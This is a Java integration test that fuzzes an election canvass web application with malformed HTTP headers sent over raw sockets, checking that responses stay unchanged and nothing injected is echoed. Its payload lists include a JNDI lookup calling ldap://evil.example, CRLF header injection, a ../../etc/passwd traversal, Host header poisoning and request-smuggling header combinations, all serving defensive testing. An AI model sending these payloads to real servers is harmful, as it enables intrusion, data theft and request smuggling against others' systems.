package org.canvass.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URL;
import java.net.http.HttpHeaders;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.canvass.it.CanvassClient;
import org.canvass.it.CanvassClient.Answer;
import org.canvass.it.Rehearsal;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.container.annotation.ArquillianTest;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.junit.jupiter.api.Test;

/** Headers that no browser sends, by the socket: known tricks, then bytes at random. */
@ArquillianTest
@RunAsClient
class OddHeadersIT {
  private static final long SEED = 20241105;
  private static final int AT_RANDOM = 150;
  private static final String BODY = "{\"reason\":\"x\"}";

  private static final String NO_HOST = "Host: ";

  private static final List<String> NAMES =
      List.of(
          "Accept",
          "Accept-Encoding",
          "Accept-Language",
          "Authorization",
          "Content-Type",
          "Content-Encoding",
          "Cookie",
          "Forwarded",
          "Idempotency-Key",
          "If-Match",
          "If-Modified-Since",
          "If-None-Match",
          "Canvass-Code",
          "Origin",
          "Range",
          "Referer",
          "Sec-Fetch-Site",
          "User-Agent",
          "Via",
          "X-Forwarded-For",
          "X-Forwarded-Host",
          "X-Forwarded-Proto",
          "X-Forwarded-Prefix",
          "X-Http-Method-Override",
          "X-Original-URL",
          "X-Rewrite-URL");

  private static final List<String> VALUES =
      List.of(
          "",
          " ",
          "evil.example",
          "x".repeat(4_000),
          "\u0000",
          "a\u0001\u001b[2Jb",
          "\u00ff\u00fe",
          "a\u000bb",
          "%0d%0aX-Injected: 1",
          "a\r\nX-Injected: 1",
          "\"",
          "\"\\",
          ",,,;;;===",
          "${jndi:ldap://evil.example/a}",
          "../../etc/passwd",
          "-1",
          "99999999999999999999",
          "bytes=0-,-1,5-2",
          "*/*;q=NaN",
          "Bearer ",
          "Basic Og==",
          "a=" + "b=".repeat(1_000));

  private static final List<String> WHOLE =
      List.of(
          "Host: evil.example",
          "Host: 127.0.0.1\r\nHost: evil.example",
          "Host: evil.example:99999",
          NO_HOST,
          "Host: a b",
          "Host: [::1",
          "Content-Length: 5\r\nContent-Length: 6",
          "Content-Length: +5",
          "Content-Length: 0x10",
          "Transfer-Encoding: chunked\r\nContent-Length: 4",
          "Transfer-Encoding: identity, chunked",
          "Transfer-Encoding: xchunked",
          "Transfer-Encoding : chunked",
          "Expect: 100-continue",
          "Expect: 200-ok",
          "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
          "Content-Encoding: gzip",
          "Content-Encoding: br",
          " folded: 1",
          "no colon at all",
          ": no name",
          "N\u0000ul: 1",
          "X-Y: 1\r\n Z: folded",
          "X: \rX-Injected: 1",
          "X: \nX-Injected: 1");

  @ArquillianResource private URL base;
  private CanvassClient canvass;
  private List<String> lines;

  @Test
  void cost_nobody_anything() throws SQLException, IOException {
    canvass = new CanvassClient(base);
    Rehearsal rehearsal = Rehearsal.onElectionNight(canvass);
    String basic = "\r\nAuthorization: " + CanvassClient.basic("clerk", CanvassClient.password());
    lines =
        List.of(
            "GET /api/elections",
            "POST "
                + rehearsal.path("/canvass/steps/inspect-materials/events/block")
                + " HTTP/1.1\r\nIf-Match: \"0\"\r\nContent-Type: application/json"
                + basic,
            "GET /",
            "GET /pages/sign-in");
    Random random = new Random(SEED);
    try (Tries tries = new Tries("odd headers")) {
      int at = 0;
      for (String odd : odd(random)) {
        // pages take their time: they get all that is a trick of its own, and some of the rest
        boolean pages = at++ < WHOLE.size() || at % 7 == 0;
        for (String line : lines.subList(0, pages ? 4 : 2)) {
          look(tries, line, odd);
        }
      }
      assertThat(canvass.get(rehearsal.path("/canvass"), null).status()).isEqualTo(200);
      tries.end();
    }
  }

  private void look(Tries tries, String line, String odd) throws SQLException, IOException {
    Answer answer = send(line, odd);
    if (answer.status() == 500 && !isCanvass(answer) && odd.equals(NO_HOST)) {
      // Payara's own slip, before Canvass sees the request: README tells of it
      return;
    }
    String what = line.lines().findFirst().orElse("") + " | " + shown(odd);
    tries.lookUnchanged(what, line.contains("/api/") && isCanvass(answer) ? "/api/" : "/", answer);
    String head = answer.headers().map().toString();
    if (head.contains("evil.example") || answer.headers().firstValue("X-Injected").isPresent()) {
      tries.wrong(what, answer, "repeats what came in a header: " + head);
    }
  }

  private static List<String> odd(Random random) {
    List<String> odd = new ArrayList<>(WHOLE);
    for (String name : NAMES) {
      VALUES.forEach(value -> odd.add(name + ": " + value));
    }
    odd.add("X-Long: " + "x".repeat(200_000));
    odd.add("x".repeat(20_000) + ": 1");
    odd.add("Cookie: canvass-session=" + "x".repeat(7_000));
    odd.add("X-Many: 1\r\n".repeat(500) + "X-Last: 1");
    odd.add("Cookie: " + "a=b; ".repeat(1_000) + "c=d");
    for (int i = 0; i < AT_RANDOM; i++) {
      StringBuilder value = new StringBuilder(NAMES.get(random.nextInt(NAMES.size())) + ": ");
      int length = random.nextInt(60);
      for (int at = 0; at < length; at++) {
        value.append((char) random.nextInt(256));
      }
      odd.add(value.toString());
    }
    return odd;
  }

  /** Whether Canvass answers, and not the server's reader of HTTP before it. */
  private static boolean isCanvass(Answer answer) {
    return !answer.header("Content-Security-Policy").isEmpty();
  }

  private Answer send(String line, String odd) throws IOException {
    String start = line.contains(" HTTP/1.1") ? line : line + " HTTP/1.1";
    String host = odd.startsWith("Host:") ? "" : "Host: " + canvass.base().getAuthority() + "\r\n";
    boolean post = line.startsWith("POST");
    String length =
        post && !odd.startsWith("Content-Length") && !odd.startsWith("Transfer-Encoding")
            ? "Content-Length: " + BODY.length() + "\r\n"
            : "";
    String request =
        start
            + "\r\n"
            + host
            + length
            + "Connection: close\r\n"
            + odd
            + "\r\n\r\n"
            + (post ? BODY : "");
    ByteArrayOutputStream read = new ByteArrayOutputStream();
    try (Socket socket = new Socket(canvass.base().getHost(), canvass.base().getPort())) {
      socket.setSoTimeout(5_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      socket.shutdownOutput();
      socket.getInputStream().transferTo(read);
    } catch (SocketTimeoutException waiting) {
      // the server waits for the rest of what was announced: what came so far is looked at
      return answer(read.toString(StandardCharsets.ISO_8859_1));
    } catch (IOException hungUp) {
      return answer(read.toString(StandardCharsets.ISO_8859_1));
    }
    return answer(read.toString(StandardCharsets.ISO_8859_1));
  }

  /** An answer as it came; none at all is the server hanging up, and counts as 0. */
  private static Answer answer(String received) {
    String text = received.replaceFirst("(?s)^HTTP/1.1 100 .*?\r\n\r\n(?=HTTP)", "");
    int end = text.indexOf("\r\n\r\n");
    if (end < 0) {
      return new Answer(0, HttpHeaders.of(Map.of(), (name, value) -> true), "");
    }
    Map<String, List<String>> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
    List<String> head = text.substring(0, end).lines().toList();
    for (String each : head.subList(1, head.size())) {
      int colon = each.indexOf(':');
      if (colon > 0) {
        headers
            .computeIfAbsent(each.substring(0, colon), none -> new ArrayList<>())
            .add(each.substring(colon + 1).strip());
      }
    }
    String body = text.substring(end + 4);
    return new Answer(
        Integer.parseInt(head.get(0).split(" ")[1]),
        HttpHeaders.of(headers, (name, value) -> true),
        new String(
            (headers.containsKey("Transfer-Encoding") ? joined(body) : body)
                .getBytes(StandardCharsets.ISO_8859_1),
            StandardCharsets.UTF_8));
  }

  /** A body without the lengths of its chunks. */
  private static String joined(String chunked) {
    StringBuilder body = new StringBuilder();
    int at = 0;
    int line = chunked.indexOf("\r\n");
    while (line > at) {
      int length = Integer.parseInt(chunked.substring(at, line).strip(), 16);
      body.append(chunked, line + 2, Math.min(chunked.length(), line + 2 + length));
      at = Math.min(chunked.length(), line + 2 + length + 2);
      line = chunked.indexOf("\r\n", at);
    }
    return body.toString();
  }

  private static String shown(String odd) {
    String plain = odd.replaceAll("[^ -~]", "?");
    return plain.substring(0, Math.min(80, plain.length()));
  }
}
